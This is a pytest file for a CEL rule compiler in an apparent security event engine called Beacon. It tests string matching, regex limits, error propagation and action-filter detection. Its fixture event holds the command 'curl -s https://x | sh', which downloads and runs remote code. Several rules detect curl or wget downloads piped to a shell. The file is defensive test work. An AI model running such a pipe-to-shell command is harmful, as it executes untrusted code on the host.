"""The CEL compiler: the standard environment's semantics on the Beacon event."""

from __future__ import annotations

from typing import Any

import pytest

from beacon.rules.cel import CelError, CelEvalError, compile_expression
from beacon.rules.engine import Projection


def evaluate(expression: str, event: dict[str, Any]) -> bool:
    program = compile_expression(expression)
    activation, _ = Projection(program.paths).build(event)
    return program.evaluate({"e": activation})


CMD = {"event": {"action": "command.executed"}, "command": {"command": "curl -s https://x | sh"}}


@pytest.mark.parametrize(
    ("expression", "expected"),
    [
        ('e.command.command.matches("curl\\\\s+-s")', True),
        ('e.command.command.matches("^sh")', False),  # matches() searches; ^ anchors
        ('e.command.command.contains("| sh") && e.event.action == "command.executed"', True),
        ('e.command.command.startsWith("curl") && !e.command.command.endsWith("bash")', True),
        ('e.file.path == ""', True),  # absent: the zero value, as in the Go engine
        ("e.command.exit_code == 0 && !e.approval.required", True),
        ("e.gen_ai.usage.cost_usd > 1", False),  # double vs int compares numerically
        ("size(e.command.command) == 22", True),
        ('e.event.action in ["file.read", "command.executed"]', True),
        ('["curl", "wget"].exists(t, e.command.command.startsWith(t))', True),
        ('["curl", "wget"].all(t, e.command.command.contains(t))', False),
        ('e.command.command.matches("CURL") ? false : true', True),
        ("has(e.command.command) && !has(e.file.path)", True),
        ('e.command.command + "!" == "curl -s https://x | sh!"', True),
        ("(1 + 2) * 3 == 9 && 7 % 4 == 3 && 7 / 2 == 3", True),
        ('e.command.command.matches("(?i)CURL")', True),
    ],
)
def test_semantics(expression: str, expected: bool) -> None:
    assert evaluate(expression, CMD) is expected


def test_integer_field_given_as_double_in_a_fixture_still_compares() -> None:
    event = {"gen_ai": {"usage": {"cost_usd": 7}}}
    assert evaluate("e.gen_ai.usage.cost_usd > 5.5", event) is True


def test_and_or_absorb_an_error_the_other_side_decides() -> None:
    # 1/0 is an error; false && error is false, true || error is true (CEL's commutative logic).
    assert evaluate('e.file.path != "" && 1 / 0 == 1', CMD) is False
    assert evaluate('1 / 0 == 1 && e.file.path != ""', CMD) is False
    assert evaluate('1 / 0 == 1 || e.file.path == ""', CMD) is True
    with pytest.raises(CelEvalError, match="division by zero"):
        evaluate('1 / 0 == 1 && e.file.path == ""', CMD)


@pytest.mark.parametrize(
    ("expression", "message"),
    [
        ('e.fil.path == "x"', "undefined field 'fil'"),
        ('e.command.commnd == "x"', "undefined field 'command.commnd'"),
        ("e.command.command == 1", "no matching overload for '==' applied to (string, int)"),
        ("e.command.command", "must evaluate to bool, got string"),
        ('e.command.command.lowerAscii() == "x"', "undeclared reference to function 'lowerAscii'"),
        ('e.command.command.matches("(?<=a)b")', "invalid regex"),  # RE2: no look-behind
        ('e.command.command.matches("(a)\\\\1")', "invalid regex"),  # RE2: no back-references
        ('(e.event.action == "x"', "expected ')'"),
        ("size(e.command.exit_code) > 1", "no matching overload for 'size'"),
        ("x == 1", "undeclared reference to 'x'"),
        ("e.beacon.session_id == 'x'", "undefined field 'beacon'"),  # beacon's own, not 1.0
        ("", "empty match expression"),
        ("e.command.command @ 1", "unexpected character"),
    ],
)
def test_compile_errors(expression: str, message: str) -> None:
    with pytest.raises(CelError, match=None) as caught:
        compile_expression(expression)
    assert message in str(caught.value)


def test_type_error_on_a_value_is_an_evaluation_error() -> None:
    # A list of mixed values: the type of an element is only known at run time.
    program = compile_expression('["a", 1].all(x, x > 0)')
    with pytest.raises(CelEvalError, match="no such overload"):
        program.evaluate({"e": {}})
    # ... unless another element decides: exists() is true once one element is.
    assert compile_expression('["a", 1].exists(x, x > 0)').evaluate({"e": {}}) is True
    assert compile_expression('["a", 0].all(x, x > 0)').evaluate({"e": {}}) is False


def test_action_filter_is_found_only_when_it_gates_the_whole_expression() -> None:
    assert compile_expression('e.event.action == "file.read" && e.file.path == "x"').actions == {
        "file.read"
    }
    assert compile_expression('e.event.action in ["a", "b"] && true').actions == {"a", "b"}
    assert compile_expression('e.event.action == "a" && true || true').actions is None
    assert compile_expression('e.event.action == "a" ? true : false').actions is None
    assert compile_expression('e.file.path == "x"').actions is None
    either = '(e.event.action == "a" && e.file.path == "") || (e.event.action == "b")'
    assert compile_expression(either).actions == {"a", "b"}
    assert compile_expression('(e.event.action == "a") || e.file.path == ""').actions is None
    assert compile_expression('(e.event.action == "a" || true) && true').actions is None
